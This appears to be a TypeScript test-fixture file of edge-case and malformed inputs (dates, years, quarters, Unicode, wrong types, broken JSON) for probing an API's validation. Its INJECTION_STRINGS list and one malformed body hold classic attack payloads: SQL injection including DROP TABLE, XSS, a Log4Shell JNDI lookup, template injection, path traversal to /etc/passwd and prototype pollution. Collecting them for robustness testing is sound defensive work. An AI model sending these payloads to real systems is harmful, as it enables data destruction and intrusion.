/**
 * Real days, well formed, that no date field accepts: so far from the data (years 1, 1000, 9999) that
 * no calendar or record of a key project can mean them.
 */
export const FAR_DATES = ['0001-01-01', '1000-06-15', '1899-12-31', '9999-12-31'];

/** Values no Banjie field accepts where a date, a number, an enum or a code is expected. */
export const BAD_DATES = [
  '2023-02-30',
  '2023-13-01',
  '2023-1-1',
  '99999-01-01',
  '2023-03-01T00:00:00Z',
  '',
  'yesterday',
  '0000-00-00',
  '+010000-01-01',
  ...FAR_DATES,
];

/**
 * Well-formed dates at and beyond every edge a date parameter has: far years, the turn of the
 * centuries, the first and last covered calendar years, leap days (2100 is not a leap year).
 * A server may answer them or refuse them by name, but must never fail or hang on them.
 */
export const EXTREME_DATES = [
  ...FAR_DATES,
  '10000-01-01',
  '1999-12-31',
  '2000-01-01',
  '2000-02-29',
  '2003-12-31',
  '2004-01-01',
  '2024-02-29',
  '2026-12-31',
  '2027-01-01',
  '2099-12-31',
  '2100-02-28',
  '2100-02-29',
  '2100-12-31',
  '2101-01-01',
];

/** Whole years no year parameter accepts, and the edges around every range a year may have. */
export const FAR_YEARS = ['0001', '1000', '9999', '10000'];
export const EXTREME_YEARS = [
  ...FAR_YEARS,
  '1999',
  '2000',
  '2003',
  '2004',
  '2026',
  '2027',
  '2099',
  '2100',
  '2101',
];

/** Well-formed quarters no period parameter accepts (the quarters of FAR_DATES, and year 10000). */
export const FAR_QUARTERS = ['0001-Q1', '1000-Q2', '9999-Q4', '10000-Q1'];

/** Well-formed quarters at and beyond every edge (a quarter parameter's extremes). */
export const EXTREME_QUARTERS = [
  ...FAR_QUARTERS,
  '1999-Q4',
  '2000-Q1',
  '2003-Q4',
  '2004-Q1',
  '2026-Q4',
  '2027-Q1',
  '2100-Q4',
  '2101-Q1',
];

export const INJECTION_STRINGS = [
  "'; DROP TABLE intake.projects; --",
  "' OR '1'='1",
  '1; SELECT pg_sleep(5)',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '${jndi:ldap://example.invalid/a}',
  '{{7*7}}',
  '../../../../etc/passwd',
  '%00%27%22',
];

export const UNICODE_EDGES = [
  '\u0000',
  'a\u0000b',
  '\uD800',
  '\u202Egnp.exe',
  'z\u200B\u200C\u200D',
  'e\u0301\u0301\u0301\u0301',
  '👩‍👩‍👧‍👦'.repeat(500),
  '\uFEFF',
  '𠮷野家',
];

/** A value of another JSON type than `type`. */
export function wrongTypeValues(type: string | undefined): unknown[] {
  const all: Record<string, unknown[]> = {
    string: [42, true, { nested: 'x' }, ['x'], null],
    number: ['12', 'NaN', true, null, {}, 1e309, -1],
    integer: ['1', 1.5, true, null, -1, 2 ** 53 + 2],
    boolean: ['true', 0, null, []],
    array: ['x', 1, { 0: 'x' }, null],
    object: ['x', 1, [], null],
  };
  return all[type ?? 'object'] ?? [null];
}

export const MALFORMED_BODIES = [
  '{',
  '{"a":',
  'null',
  '[]',
  '"just a string"',
  '\uFEFF{}',
  '{"__proto__":{"admin":true}}',
  'NaN',
  '{"a":1,"a":2',
];
